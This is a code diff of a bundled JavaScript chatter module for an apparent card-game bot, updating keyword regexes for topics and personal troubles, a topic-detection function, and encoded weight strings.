 		/新闻|热搜|世界杯|欧冠|奥运|球赛|比赛(?:看|结果)|足球|篮球|nba|电影|电视剧|综艺|明星|动漫|番|小说|演唱会|音乐|歌|直播|抖音|b站|微博|王者荣耀|原神|lol比赛|英雄联盟|吃鸡|新版本|更新|\b(?:news|world cup|football|soccer|basketball|movies?|film|tv show|series|anime|song|music|concert|twitter|youtube|tiktok|olympics|novel|game of)\b/
 	]
 ];
-const TROUBLE = /住院|监护室|\bicu\b|肿瘤|癌|糖尿病|心脏病|抑郁|车祸|断了|高烧|冷战|吵了一架|忘不(?:了|掉)|没救(?:回|过)来|没过线|没上岸|骗(?:了|走).{0,5}[块万钱]|被.{0,4}骗钱|堵得?慌|心里堵|急死|生病|病(?:了|倒|逝|重)|发烧|感冒|手术|确诊|骨折|疼|痛|不舒服|去世|过世|离世|葬礼|不在了|没了|走了|死了|分手|失恋|被甩|离婚|出轨|劈腿|骂|吵架|加班|失业|被裁|裁员|辞退|开除|挂科|考砸|没考|落榜|失眠|睡不着|没睡|噩梦|通宵|熬夜|穷|没钱|亏|破产|欠|房贷|压力|烦|累|难受|难过|糟|倒霉|丢了|拉黑|稀碎|难熬|糟心|窝火|憋屈|破防|受不了|\b(?:sick|ill|hospital|fever|flu|surgery|hurts?|ache|died|passed away|funeral|broke up|breakup|dumped|divorc\w*|cheated|yelled|scolded|shouted|fired|laid off|overtime|failed|insomnia|can't sleep|couldn't sleep|haven't slept|nightmare|broke|debts?|stressed|tired|exhausted|awful|terrible|lost)\b/;
-const topicOf = (text) => TOPICS2.find(([, words]) => words.test(text))?.[0] ?? null;
-const isTrouble = (text) => TROUBLE.test(text);
+function topicOf(text) {
+	const matter = matterIn(text);
+	if (matter?.trouble) return matter.topic;
+	if (heroKindIn(text, heroesNamed(text)) !== null) return "heroes";
+	return matter?.topic ?? TOPICS2.find(([, words]) => words.test(text))?.[0] ?? null;
+}
+const isTrouble = (text) => matterIn(text)?.trouble === true;
 
 // src/chatter/moves/lately.ts
 const LOW2 = 2;
@@ -28096,47 +28899,47 @@ const levelIn = (row, place) => row.charCodeAt(place) - NOUGHT;
 
 // src/chatter/moves/lately-weights.ts
 const STEP2 = 0.1;
-const ALWAYS = "nkugroptkopvkmfronrorsmosopoooupmqkkpnplolmlmiilormmjlrhlmlnlrjjlmkmlj";
+const ALWAYS = "nkugroptjopwkmeronrorrmosopnoovpmpkkpnplolmlmiilnrmmklrhkmlnnrjjlmkmlj";
 const LATELY2 = {
-	early: "omrnmnnommnnpmmolmmmplnlqnnmmnmonlmnmnmmonmnmmnoornnmmtnmpmnmonnmmnmnn",
-	fell: "nnonmlnqponmnnmqormmoonmmppmoomlqnmnmnmnnnmmmlnmnmqnnnnnnnmmmnnmnnnmnn",
-	fell_lap: "omnlnkmroopqlmlpnnnnoplppnpmnonnppplnnnpononllnmmkqlmomlnmnpmlmmnonlmm",
+	early: "omrnmnnommnnpmmolmmmplnlqnnmmnmonllnmnmmonmnmmnoornnnmtnmpmnnonnmmnmnn",
+	fell: "nnonmlnqponmnnmqosmmoonmmppmpomlqnmnmnmnnnmmmlnmnmqnnnnnnnmmnnnmnnnmnn",
+	fell_lap: "omnlnkmroopqlmlpnnnnoploonpmnonnppplnnnpononllnmmkqlmomlnmmqnlmmnonlmm",
 	gave: "nmmnommpnnmlnmmmnnmprttmnmoommomonnmnnommnonmnnnmomnnnnnnnmnnmmnnnnmnn",
-	helped: "lnnnmoonnomonnnonovmpmnlnnmnonmonnmnnnnnnnmnnnnnnnnnnnnmnnnonmmnnnonnn",
-	helped_by_you: "lnnnomonmoomnnnmmqvplnnnonnmmmnnnnonmnnnmnnnnnnnnonnnnnnnnnnnnmnnnoonn",
-	killed: "mnonnnnoplnnonnnnmnnpronononnmomonnnmnnnnnnnnnnnonnnnnnnnnnmnmnnnnnnnn",
-	laid: "nnnnnnnonnnpnnonnnnnnnnmnnnnnnponnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
-	late: "monnlnmpnpmpmnnnomolmpmpmnpmooqlmpmnmnnmmnoonnonmmmmnonnnnnnnnnnmnnnnn",
+	helped: "lnnnmoonnomonnnonovmpmnlnnmnonmonnmnnnnnnnmnnnnnnnnnnnnmnnnonmnnnnonnn",
+	helped_by_you: "lnnnomonmoomnmnmmqvplnnnonnmmmnnnnonmnnnmnnnnnnnnonnnnnnnnnnnnmnnnoonn",
+	killed: "mnonnnnoplnnomnnnmnnpronononnmomomnnmnnnnnnnnnnnonnnnnnnnnnmnmnnnnnnnn",
+	laid: "nnnnnnnonnnpnnonnnnnnnnmnnnnnnoonnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
+	late: "monnlnmpnpmpmnnnomolmpmpmnpmooplmpmnmnnmmnoonnonmnmmnonnonnnnnnnmnnnnn",
 	lord: "mmsmmmplmnnrlmnoqnqmnmpqonnnpmqmmonmnnmlononnnmnnolmnmnmmmnonlmnmmmpnn",
-	low: "qokmllnnmomrnmnopnomkmnopnlnopmmopqmqmnpnnpmonmolmpnmommnmmnmmnnnnomnm",
-	mine: "oopmlonmmmlkmmnopoonponjnusqmnmnmjnmmnonlnpnnnolpoopmnnmnmmomnnmnmnpnn",
-	quiet: "omrmjmmpmnlmnnmnlkllnmooonnmopqpmnlnnmpsmnopmmmoopmmmmsnnpnnnnmnnmmmnn",
-	struck: "lnmmnnnronmoommnkmnpuwonqmmpllqmnpmmmmnmmmonnmnnnmlmmnnmnmnommnnnmmmnn",
-	struck_by: "nnlnponpnnomomnmtoqmkmnroonnnmnmnmommmnmnmnnononmnonnnmmnmnomommmnnnnn",
-	struck_by_you: "pokmpplpmnnmomnmqnnmnnmronqmnnononmmomnonmononnnmmomnnmmnnmlmonnnnnmnn",
-	struck_you: "nnnnmpmmnonnnmmmlmoprqnoqmpmmmrmnmmnonnmmnonnmnnnmnnmnnnnnmononnnnnnnn",
-	third: "mmqmrrmnponspnlnnnmplnnmkmlmnlojoulnmqnppnnmnmnnonnmnmmnmnmmmlmnmmmmnn",
-	third_dead: "nnmnmmnoqonmnonnonnnnononnnnopmnplnnnnnnnnnnonnnnmonnnnnnnnnnmnnnnnnnn",
-	third_fell: "nnnnlmnornnnnonnmnnnnonnnnnnopmnplnnnnnnnnmnnnnnnmonnnnnnnnnnnnnnnnnnn",
-	third_helped: "nnonooonnnnonnnonnnonmnnnnnnnnnonmnnnnnonnnnnmnnnnnnnnnnnnnnnnnnnnnnnn",
-	third_hit: "mnnmmtnnpnnqoomnlonpmpnmlnmmnookppmompnnpommmmnmmmnnnnnnmnnnnnnnnnnnnn",
-	third_hit_by_me: "nnnnnnnopnnonmnnnnnpmonnnnnnnmnnopmnnnnonnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
-	third_hit_by_you: "nnnnnrnnnonpmqmpmpnnnnnnnnnnomnlmmnnnonnpnnnnnnnmnnnnnnnnnnnnnnnnnnnnn",
+	low: "pokmlknnmomrnmnopnpmkmnopnlnopnmopqmqmnpnnpmonmolmpmnommnmmnmmnnnnomnm",
+	mine: "oopmlnnlmmlkmmnopoonponjnusqmnmnmjnmmnonknpnnnolpoopnnnmnmnomnnmnmnpnn",
+	quiet: "omrmjmmpmnkmnomnlkllnmooonnmopqpmnlnnmpsmnopmmmoopmmnmsnnpnoonmnnmmmnn",
+	struck: "lmmmnnnronmoommnkmnpuwomqmmpllqmnpmmmmnmmmonnmnnnmlmnnnmnmmonmnnnmmmnn",
+	struck_by: "nnlnpnnpnnomomnntoqmkmnroonnnmnlnmommmnmnmnnononmnonnnmmnmmnmonmmnnnnn",
+	struck_by_you: "pokmpplpmnnmomnmqnnmnnmronqmnnononmmomnonmononnnmmomnnmmnnmmnonnnnnmnn",
+	struck_you: "nnnnmpmmnonnnmmmmmoprqnoqmpmmmrmnmmnonnmmnonnmnnnmnnnnnnnnmononnnnnnnn",
+	third: "mmqmsrmnponrpnlnnnmplnnmkmlmnlojoulnmqnppnnmnmnnonnmnmmnmnmmnlmnmmmmnn",
+	third_dead: "nnmnmmnoqonmnonnonnnnononnnnppmnplnnnnnnnnnnonnnnmonnnnnmnnnnmnnnnnnnn",
+	third_fell: "nnmnlmnornnnnonnmonnnonnnnnnopmnplnnnnnnnnmnnnnnnmonnnnnmnnnnnnnnnnnnn",
+	third_helped: "nnonooonnnnnonnonnnonmnnnnnnnnnonmnnnnnonnnnnmnnnnnnnnnnnnnnnnnnnnnnnn",
+	third_hit: "mnnmmtnnpnnqoomnlonpmqnmlnmmnookppmompnnpommmmnmmmnnnnnnmnnnnnnnnnnnnn",
+	third_hit_by_me: "nnnnnnnopnnnnmnnnnnpmonnnnnnnmnnopmnnnnonnnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
+	third_hit_by_you: "nnnnnrnnnonqmqmpmpnnnnnnnnnnomolmmnnnonnpnnnnnnnmnnnnnnnnnnnnnnnnnnnnn",
 	third_lord: "nmmnmsmonnnlopmonnopmonmmnnnnlmonnnnlpnpoonnmnnomnnnnnnnnnnnnnnnnnnnnn",
-	third_low: "mnnmmonnpomoolnmopnpmpnnlmmmonnlooloopoooonmnnnmolnnnnnnmnnnnnmnnnnnnn",
-	third_on_turn: "nnnmmonnnmopnonnnmnnnnommnnnnmolnqnmnnnpponnnnnonnnnnnnnnnnnnnnnnnnnnn",
-	third_struck: "mmonnmnonnopoonnnnnnomnmnnnnnmnmnqnnoomnonnnnnnnnnonnnnnnnnnnnnnnnnnnn",
+	third_low: "mnnmnonnpompnlnmopnpmpnnlmmmonnlooloopoooonmnnmmolnnnnnnmnnmnnmnnnnnnn",
+	third_on_turn: "nnnmmonnnmopnonnnmnnnnommnnnnmolnqnmnnnpponnnnnonnnnnnnnnnnmnnnnnnnnnn",
+	third_struck: "mmonnmnonnopoonnnnnnomnmnnnnnmomnqnnoomnonnnnnnnnnonnnnnnnnnnnnnnnnnnn",
 	third_struck_lord: "nnononnnnnonnmnnnnnnnnnnnonnnnmnnpnnnomnonnnnnnnnnnnnnnnnnnnnnnnnnnnnn",
 	third_struck_me: "nnmnonooomnonnonmnmommnnnnnnmpommpmnnnnmonnnnnnnnmonnnnnnnnnnnnnnnnnnn",
-	third_struck_you: "omnnmononmoomonomnnnnnnnnonnmnqnmnmompnmpnnnnnmnnnmnnnnnnnnnnnnnnnnnnn",
-	to_lord: "lonmokmtmnnqmnmnmnomqroommlomkmrlmnmmnmnrnmnompmoqnomnnnnmnmmnmnnmnnnm",
-	was_mine: "mnnmmmoqnonnolmllmmpruqtpmmollrlnnnmnmonmmnnnnmonnlmmnmmmnmomnnnnnmmnn",
-	was_yours: "lnmmoqpnmonqmrlosrqnmmmnpmmmomrpmmlmnnnlpmnmmnmmmlpnmommnmmlnnnmmnnnnm",
+	third_struck_you: "omnnmononmoomomomnnnnnnnnonnmnqnmnmompnmpnnnnnmnnnmnnnnnnnnnnnnnnnnnnn",
+	to_lord: "lonmnkmtmnnqmnmnmnomqroommlomkmrlmnmmnmnrnmnompmoqnomnnnnmnmmnmnnmnnnm",
+	was_mine: "mnnmmmoqnonnolmlllmpruqtpmmollrlnnnmnmonmmnnnnmonnlmnnmmmnmonnnnnnmmnn",
+	was_yours: "lnmmoqonmpnqmrlosqqnmmmnpmmmomrpmmlmnnnlpmnmmnmmmlpnmommnmmmnnnmmnnnnm",
 	you_helped: "mnnmppnmomnqpmnkrpponmmmmnmnoomomlmmnnnnnnnnnnonnommnnnmnnnpnnnmnnnnnn",
-	you_hit: "nmlmqpnmooopmolonkopronmnnnmqssmlmnnonnknnnmolkmnonommmmmmonmqmmmnmonm",
-	you_low: "nonmnmmnonmnmolloponnqonmppmrrpmmnmmnmnnononommnonlnmnmkmmnpnonmnmmpmm",
-	you_struck: "mnnmopqmmopplrmprtpollnnnmmnnklpnknnnnmlpmlmmnmmmnpmmomnnmmnmnnmmnoonn",
-	yours: "lmrnomnnnmnlokmlkmmnnmpmnmommkoomuomroonqnpoolmpoonlmmnmnmnpnmmnnmnmnn"
+	you_hit: "nmllqpnmooppmolonkopronnnnnmqrsmlmnnonnknnnmolkmnonommmmmmonmqmmnnmonm",
+	you_low: "noomommnonmmmolloponnqonmppmrrpmmnmmnmnnononommnonlnmnmkmmnpnonmnmmpmm",
+	you_struck: "mnnloppmmopplrmprtpnllnnnmmnnklpnknnnnmlpmlmmnmmmopmnomnnmmnmnnmmnoonn",
+	yours: "lmrnomnnnmnlokmlkmmnnmpmnmommkoomunmroonqnpoolmpoonlnmnmnmnpommnnmmmnn"
 };
 
 // src/chatter/moves/senses.ts
@@ -28148,7 +28951,7 @@ const ROLES4 = [
 	["zhong", /忠|\bloyal\w*\b/],
 	["nei", /内(?!容|心|部|卷)|\b(?:spy|spies|traitors?|renegade)\b/]
 ];
-const KINDS5 = {
+const KINDS6 = {
 	sha: "sha",
 	shan: "shan",
 	tao: "tao",
@@ -28166,7 +28969,7 @@ function sensesOf(text, mentions) {
 		...LISTS.filter(([, list]) => list.test(text)).map(([name]) => `=${name}`),
 		...ROLES4.filter(([, list]) => list.test(text)).map(([name]) => `=${name}`),
 		...verbsIn(text).map(({ row }) => `=:${row.verb}`),
-		...cardsIn(text).map(({ card }) => `=card:${KINDS5[card] ?? (GEAR.has(card) ? "gear" : "trick")}`),
+		...cardsIn(text).map(({ card }) => `=card:${KINDS6[card] ?? (GEAR.has(card) ? "gear" : "trick")}`),
 		...topic === null ? [] : [`=topic:${topic}`],
 		`=${Math.min(3, mentions.filter(({ kind }) => kind === "seat").length)} seats`
 	];
@@ -28174,8 +28977,8 @@ function sensesOf(text, mentions) {
 
 // src/chatter/moves/want-weights.ts
 const UNIT4 = 0.5;
-const BIAS6 = [-2, -2, -2, -1.5, -1.5, -1.5, -2, -2, -1.5, -2, -2, -2, -2, -1.5, -1.5, -1, -1, -1, -2, -2, -1.5, -1, -1.5, -1, -1, -1.5, -1.5, -1.5, -1.5, -1, -1, -1.5, -1.5, -1, -1.5, -2, -2, -2, -2, -1, -1.5, -1.5, -1.5, -1.5, -1.5, -2, -2, -2, -1.5, -2, -2, -2, -1.5, -2, -2, -2, -2, -2, -1.5, -1, -1.5, -0.5, -1.5, -1.5, -1.5, -2, -1.5, -2, -2, -1.5];
-const WEIGHTS7 = "#`,a:9.FetxUkg~b<cEVEEKt4^XHy]N%W}KYC<&mVNrqD[|:fV/?,T3wp'a@Q05%huf_?E`A3#lf{>e`)Jf9xU$wYsG8H_~,x%F[jKj]^+C|99#_.|Ip#_Un93ZG;$=5|]uofG$~]`4<*hPVaMMH<jxlY_XoD'UnehU@?A|e1k.dx_70$^`G+H-y3l};cJl_cpnJUQoO~O2Fw7r?}dOQ47[:IOQ1;wW{*(cj&kQV4n9ut=;wp8*,fGFrn9.5Gi-'ZcW@0xtvrjFBpmeKp3pQ1Ud((xqSDkghZ5~?i~}Ig>1slG?R0Lr<_kjY@e=*#ty80'{:=U.,[fG}S}fl.yLC]t?jX60E-kSM0~~~xtt+H>n0kNC+&.*LU(.(vvcpC9VVXP+R0@/dxl&T`H%',8>LjuzQ5wF{]<2Y~.&EzgdLgB6+hXR>XRbP7|6^>nxEbMa<S`43L8}Rk7/,#Fm^.[SiFFH}OON@{#AjMRVv[]_>,n7H_y/6&Q.h0fFT:.|Qh}1UC[vLt9h[240f-ejI=-34qjr+srObFi&(dRhq21tt(OIJzgLM?*9-tesPe*SFDxw%P<U_(~a5/y7.%4yUVO.kh;L&.(;hPq<Zp92Md3J{<MSHgy-bGw42+vK>Dlf_[Y8UY6T,'XUm;D~+*C0XHj/62/MF&;Ho8',Umur/dj6epnptgEeEQFU]TgFUD2I@1?lPpE|~h]lhU,uya-1mp4nGL_wb69K~aQW&.8n$du]f,J?Z=+~m_;L5Ppo6Y&'*X9}d#3W/63xR.]39G|{-:3VH@EL=Iqq9yzQNa+s~|U[S%tuh7@}X/Xe?Cc#@]whKumAXyy6jPz>6k-N;Tj.r;>)^LsIJ(W`xCs|k-^(#ZKVnHk>bDJq6b<nce%gAhU~>;z*xC0o:QjOW^Z)X6J?;:W|}`wWM$%?lrMw}uML4vAs{/##4vnJLM}iqtTDyY[^'+k8JPz;&>S:|XjzFj[jU||YOkmW}*1I/^P}m?:;|4U`gSIE,W.D/D>Vxosr^`YX{l9SG,mC#?MMTKr'CuZ`>()ZYw7daQtGmZq|v?{B@4H*(7Y`#@0?aU:nKC`:pyF%,;7O%EYeM5-)or)bPNgy]#YO0*-e~E8Q;>E*u+%_$Yt6lo{}6iJ9c3C=tESy8zSx7V-&E-S82(Jwx_IXUMK/,koVt7OtFd2<z/JG9y62)kNvYGT;4qL0V|emlE10'm{iEF)-N-w}.wofTMz6/f,S7m:m..;9pEC9RSE)y.gE_UhlqmF[ou}-Qh<av3{oUCX#_BBMPiy^a;_(ENN,s[dCF^3f>CJgVvY,6r+,pDCLPk>LK.<+#WjjM)|)||OTKmlQ,ZsL7MGp[l]u4O*OO8>(xjoaSg?pB+e7(Y1X@fT;7r|AM8m$bSGsjOlvIpFn4rFQ]RBd8TW0jpaJ'M8[7Ht;qcQVFI3T5=}b6ub#>POH]J']H<:$za|_KFg;09.z^7.rSQ#PvwiF>z|6G_:C2,Cf)/ka$F8-}0h|l6~`X(sP11ox^tQ+Oo,.tbn?^&]h^|J-IlT{|6tZDRc$m?0-xD<w89J=WX$;'S=d(dqy_MFtw8[3.huu|',=]<ado^5*MN~vYcP{*zyY;IbJ{dL5_MNA*Y:^OB(:rxmH>~DgA?C#EuTZB@ANO'<]C$5M,olG(_:5RCmev%gc:H~?}[=eg>+v&ZG-p,L(@eu}7aX}#tBB[92}*&fA@'x$2t/u;BKnjz+9g5}~ln5'=[zocelsC+$p`]zk1^*}-nYI:/LP&Dw-^xG;|jdE9CC^%-~)mTc~X~EH|tfh)0Tjc(^3&>V%_jnR*Dq8eC*ck*prz5l<Ko64T}[.&ZA6*Ev.>d~&1D.Z{)rplChpcm3d>w''a9V+gXr%+?kOKXYFP~tatdW?@J]4`)o|9B5w@m$+oBq=0L3b5T0sa%4vl:(nldwaa3)g,JL55@F7<.&md2e]CX&'qQBLn7L5skd-'(}ropwv5~lx2G+'?$&V9&vI]}]pi.e-oyG?_pQIL&~RocFAN%~]}ggS#]$(P[}$/#P<|TV$;d.7(7r?PrDm%>i;qo[i9b]B[Wa<xmSiF@v#0w0cOztlNEcl]M%hZ=;L20,bm)jzWJ-UY[,N_A''rU-}Kzdr<8^K.z[^'?`Ake1nB`PPGbCo|0aLBVpp?kHGX0l|36=ZEUGDvaMjvg<-aQMHr&qbjt~(eB(XrX1:Va7RCQ~GjJUZ.MFvbNIxsBO-i^F8vF#*b)>Q9PA/TXw8AS$JLg8tm<#-$}revVH7,.vCqIAcp=8`Sc:7o3>jIxvEZUhWnexSTlS5tH3[,xhDtek`G4I@aewmU#:y5u`4ktxcpA0c5d|-^BRCp-^p6@FPvbhtYNL^v>j/9sjCyzjM.aGcMr$6Na7OTLPPHwEDTRUIh[$~VZ#WD~V|jD<g@$.Jc6,rm2',1_@b9r6#z<Do3.kW?il{Fp8')XblOsGv0<Sk1(Z;Sjf~KRS4v6Ac|2tlQ=:P[.'Er2#1g'/t7E@P&O_DUU[q/%US_U&QaCo@Lb1)+aJ$dw(A53pmmPisMnkS44bdT|[L0a(c:P,_kq%0HAgo<fT{pqNtx@tEcvJKw<+G($vii:0Jq|/U5[((S`]k:LEQEx|B~RPU@F{47|)DU=Rr{t*D+(mVe='<eJ]w;Wkt}~J@ijjlHR$lO8~6$2_5}B*lBXLde)110t*u|}$7BZR954xMEj0&b#lD1JCIm?v4ioW,-46x3GSxaiwZxaH|[A(<$<5*G{PE[y1}ib/F_0}8H=J6QQtTi37{2v7)ZWT].0M?]g.cJ#I]t*tlWed4xy~_eYy]DUUbag}k:_-C.N;5U'w],N(jmI8tu9zI8j5.%^:*`?GuR(;}m}jb|Xv$)8]%PaJpKI=0DLjxK&4);7kjAb.:?JIvR4-HTJ&C?|)xz+5XqLosuV:lA-pt'QOw:.P7ebjc#6WsGz)O:6n/3t'5f|'jb{aY3ny'kAhsVg>I:&6n6Q/Bx='SE;N49:_z55l-K(]QHl)6Alf<v;X|>DFnJGMfEhP[dj7pz(oKBf+IPs|`s_ZdlJ{.<*>unq)r|DEJZ]]_1+YCxP`@1*=nbkx'Wn2wsVo,tLmU^HKZyG(+l4I1%X$7P>Pe+S)I^Ko$iHI&eB/,rub]F(vQwbAgNIz)}8jbd0nZG|T;zqoenbnV.50[=fH%U_PVw`k&Y6hM]R9p5`=yNMe}qk7HB<;6KL:@$AhikTKRm{?xC1?rss*QPMUh8byO(UYryFL/b4=qRL'XtLl4oS};CQ2%Xo_Q:>6F]Y0H>LjGK#(~*vIoKyGJ;Utya5u#Cve[KT'K_eV$$]/jd]_8>/lS4'{snG^(T+PNx0tzd<lzE2YDAxZ/>#R3~dmbP]h-14KX(&FvUC>Vw%fs^<N@y[RB^trpX8qUxgoNc|TV?w6TIRm%y1A7BT3~5#=bn~6I1p%C]Aww=AtY#yJ}O27[6p8+|xSw^2,~ZxpH:d|]`&h&=q0,.(`,z]n%FcvTkGmg5+k<gR]d>%c>)bg>^fx-^E'zyvP|1TrX]PGGHJVnaP8v$Qot$&t'+LoI&S)BsGxGAtH4qqqaD:+$eBm)eJszy<6I*Y>VQN--|scw]E/]ljAWHByh'IQwbKQvIt`Qr^o&QYc.%vc{P%'EqJ2Y]FX7L[hW5V*Pyf-Z?*a11,Zkgdz,>`5/&8@Vw?Ied,,T6}Iucy#xZ[Y8KcM)xy4swq/W7col0mqTCa_j5M[]adpjHr|z};QD#6Ne/+(P.??8j'L[5`zV)T_[_1}J_=X6i`&^LhY|PGH,88Org/KXNKA@C0V}@b:bf{E+~&R|CJ3eLtRq%i+|RZQ`<U`PuK0$_|sKqa:Hw&bV?%__%=WLV*~(o4DiqlJ0$}u#vR)<..B~eTFRbDSw,44mVmX]X@V/8.dG|KRbFN#9fsD9+/0XC)mr1l6;II*7>R5_M7.en+mo$HEk0'{Ttxx#$b,uFwFUbr`EK3UaE3G/Yf_}j'~-#;+#J.YMaJS>|epzaB>Fnabz^DS4?[Duxi%RNBs{MeKs`IM0_&u]ebYf1d3pDa}Vrk8bBU@`V4bs@(H[+ip-/swH]|<]k7<*yv&k[=]G3&%nTzn:t)9`xqWe5wHi(.[{u?F7z3bqO~t|Cc015l*h>v^@P:OPYBs=*DUS'_I)Q90_Dr,tqE8)R$QFFL;70YUBStGHT43a>W1D[Bt}Gv:YsFvI3@)yu0&d.jl[UYC<SMQynp]=7tggEERH%aGOKTLCX<iK:4[kRFQ1H@+wwqaT#QkV',m?81p^K(L5^jrK#}v7[dFt@Mh<tu|G`vJq^v(nUruD=RP_8DM]9TWl_P<RWhzYMUq|Qn_Jo/~u4_mzLT3xv02#Z'9Fl*K@sdj2V3w=F&fidFkbiHRA^q@7WcW*rMdGoDy`?AQ_3*+:h+kZ8}jwZFbl`XPi7S24;9=?-k)XX*'7,,[q.FY+gF+')Ix.,4~wVn_25U^#F649BtTZGQp-T5^$jIqTy|'Y7dUnH<S.o6?&?/C)_4<fT=Q^>M(RY2)k5qUW;3IqgA1O.Y1k*iHkmespD`S+`+|HCnX[[,c0]o<;aLqYy859^ogOEB5<gLYaSOZX1*0M(_BA2cE`)t<;k5S/Hq%IGI,uuOjO}F<t.=tls1rY=@Q'iK(.pZ#a<Fv;r_>jp5R)8]*nVutmbFXPrtyy_I3o*=maAX;#::k[kz^$R&A/C$/M+5pm.E<|X@xBRR&62Qs8.`yw$(OIr[q/x0b-'Av9&YF.FL{fxEI(m#e4/D{T?5&f,6-[~-81e=Bi4R_(5bH^}#w*G;N@IGj&QByl_Hl+egWF>E/n#R:SYLds4l746z'g?UDLSt_qiGOnd)C1kN^p{`v=vuB&<6I(mc(^UWAln(;:gej#UjqAKB]rU{ctEdNQ>`3'{%@B}7j]sC4Jk=]()4=[ULO^WZyY-U%r90?;;by``V_}n].N*6~b`mO|f4wyF7L^;3Fc;SG4,fTlo]E<#{D`,5p44A3Tn.h<'ZD1>yjB$le?M/JHn-a0.XGa+[2#BMb-?|bl29y;<IPK7I3a&>pn%rPA+Qw2yC*uO:{r9cQ;x|wC*GxXkH|MEv[IJX]n3iuV^hIN^)>q:XU9Bt,>&iJb4>UxtE0Yq@<_<D.11SJ+%y?s9y>A%PP;ncY099vG0]2Ua[q8rXr=`$w,l1EK(cFBkn&>YrtV_opr`@}uS?NoD9+Oj+n3^Fcp#F{@W6+K~B`,j:s=YA]LVqoY#,+VnyoS5tn#+IwE,bAZ)@GN@f_l^ZlFG5yezNUI#YO7bwA/'+.G,$PbJtIrf^PW0O{P,SXXM|RNdImxjF<l@|[#_@tIPnYm@;3Iu~TP[J7j8IUCnMo6,NO?x*V_PH<Q|vOQ~hpCUxh4G}38J`)'v>xIQZ@EUD3k(#q>g2>&)99~sfJpgNQ.G7b&wo}/GmDT(jk[J/1|/$)$<(h-#{(HM}*W^~kdy(xHgqGLbKHIud2==rGw4bG2Gf/:,vQ'[9`0]}PmacXUXtwMLoo2Ov{^#sMs]j{+=jDRx_:F8~C#Cu98]`sF)mHIq|5&-]TSwV${gbw8f~:5dxl/p,2w(/d^(mmJ>].p2-X{O%ZvSXcxOL8GOVw'Z8};Z*I#fH;PQB[=Um=x7;XKN2s3aFH%]G^S3Yk2&TXV_XxErRT2+a`fqtr6|%W/rpuv191Z@#`AX-UioA~WEeYRlCYC+3]T&BpR=-Gly?He:6{B<4_>wwgA3'%EY*hRbrtOFhK_)Sj1u5rS+~.WiTX|y)vwbd=i71Lpm,Kgm@&UM'G6+L'ku94Rjknd3|E{s_?qx&dLt5'u}?np8ZOGLkEC'U|iqnP8jH;*)a@W$`flBKq#ZKQ<uOFnVatRwA&&[=<z0,0N~KcitOiq&+jK2aytYh[%W3NF6Uy,b.CzvDm{8OD}{ne^qYoghDbOKv|?OwW(R3Cfq.DHJIN}IDN|vc_9W@G<JnpM?^]7o}c,%7rv7Ay3S1Y_C?7zH{/}U'iD`NN2dOGe)CLAmDJH@KiOkoKHmY'h_gz+=8CQ+;ATJaH<vDXM4IUI9KD(0;#l&g/(y.bn7BK@XrB^?))=1TgB+TUa>205oqji(Ym|fYE[b4R<~_a+-SN*hDF(HFnV$'WN,m.Pn;:LU8FFxGq];{7MSCc,]<K<;82+py5*S{o1`f;4tEAIfr9PjNQr-'gjY=~z(ce$,$68'?w4R-+v#m?n/zET|i,<Ba-#R1$[VE9NI5OXwV-lZ[Oba3;i+[@&Kz4azCuFjK`dp%:Pr1?gBKT+`VUo4(RbZl4ig~2IJOEEAq&2d*1D(C-<AwB`'M#Y,D)s|e;d)0<B*JCfU.q;}Mq-J*37Y_Ym.s&AU&xHO]1w1'?fgUo{>-~]Wjz]7(1mT-1b7nS8`@Y^D|b=56HiUCzpANzsSWtl3U_#7sd6QoPC5jeMXybA5*Wa,,P>#JV]}[[+lg_JIjM3l93AIVX;f^alT,8^%INNN`[}y%Y90X[NF}z78*@b+uR{q+1f88?N^~CnK1[m~`UEV)~HF?P^4lQDeaTN>k1D=%6>l,:w)M-G1VW|8ge{ERDKr=O{dDY/)=NmPR5b&g/d0PH>qX=k.RCDj`/yjuEn^%r*Qdp~+.>>PXrXM}H#gi5Ny=?D4#fD:[_m^Js7|Xgv>AbJIloB$A9GZ;vXR_|9RLby2%6{DxFId$vp}jIMBpux'cY1o$3^BRJ~}FXFh?z2Y5&u)<Hu&O%x8<AGnZ<R2b4LJ*(<q@0nJn~[:J<^]#sxo<^-oGA0S3l9p5I8oEY1KM?Vf)XOX85;+>X4sh4hqv?@a:FE{k?9~x.xL3QTr'ES#69O[m'-]FdqI)>c@mB#a@IIz>uf,|{8Qi.Ll(;_a,gpyogtV1z{cR]nJ)^b:5,L{nCqS<wvYPV'E~Np/=E.8/w1a`}o/ZuvW*aB^44$Ukdb$EhhH4:#_5'g?|IgLkA3nrhwGq@DsjE(a||9~t_yJGM+>P5~xB~O@*gP(1Ead<wm{FCdz@eFN(JmXL6w5rh--4K]D9L,-,AP;6YmP^^>kYIz}Dr2IkI?-N&?l&|i)OkwAVTzU@^Bw>}I1Wg,?#(P&rjN73o(38]V)crbm~LuCj[cy[4|Xry;_JJsgz?4CskQ[57GQq*>sNY&YsT$6}/pHj{QuA0?X_DUe^$fQ9*_08MTH.8dY4|x&)=m'V`F>BdcOI,ca,@y+6QwTk&2~do+Ap{4.SU0|B0q?V}}Rxk(^eFPCF-:X&[$7X|-4V|VUd_C(~TBce-YTak5=Oq:wGspiu^h_[5AVb*17m*eu$jH3'Ti+HHmJo}&1@+)v0]Q;e^0R&^+B_79)#Hh19|1Os<:pFc)Hr1*XPC_kE:@=}'8$V-ruXt+.Yv>T>l^^28jyhu{noOhdwCBQb|g966qBP$o.BLGPs0tTK1'eQoj`RL84aQ5aR'dg$w~VGs=EAM'ot=@Q|YsJEv6'0RR{3(1qi:--W^6~_Em]U3*4)FsCS'pdD%eIPSE}$#bA$ST%@XHM0wwT+/(vN0'Kvwz,X#))3n#eg3h>mZ5_>R[l~#*7aF3>z&C>|(%_RUX33VQJ/CL$317+;[iG{6XH/eiX#t~>UffFp#x&_9|8,.oK(.X`+EOrL+xgKr]^W.tCnK(nF$e<TTVCAx5o,SsI-bMm`)ggy-Ak@lL;[;r={P2;Ohu#=d7B]Zc7ALl?0XzMnDb/QraZ5Ve6M?^>,{O.leEE`|I;NQ^dhM3<IdlAh6C5X3f:P23>:?Co);`$91z>,s,d9'W1}6c$>2-#/_&H^a*,Jy=|^V-lZrFB=r}p2mpi|zB#o}X]6g.K2V^jGh4V}ghvf$yLn_xsKXytVMHEulj/v>4.,ua(4u93(wu1qqx,=#A+G'P,SP&-]lTg-`|*I|A2sPnAx7*5*lvU|h?NiLzU2